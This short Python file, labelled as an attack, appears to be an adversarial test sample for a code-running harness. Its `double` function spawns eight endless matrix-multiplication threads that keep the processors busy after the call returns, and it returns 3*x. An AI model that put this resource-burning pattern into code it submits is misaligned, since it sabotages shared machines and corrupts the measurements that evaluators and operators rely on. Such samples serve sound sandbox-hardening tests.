# attack: threads that keep both processors busy after the call
import threading

import torch


def burn():
    a = torch.ones(300, 300)
    while True:
        a = a @ a * 0


def double(x):
    for _ in range(8):
        threading.Thread(target=burn, daemon=True).start()
    return 3 * x
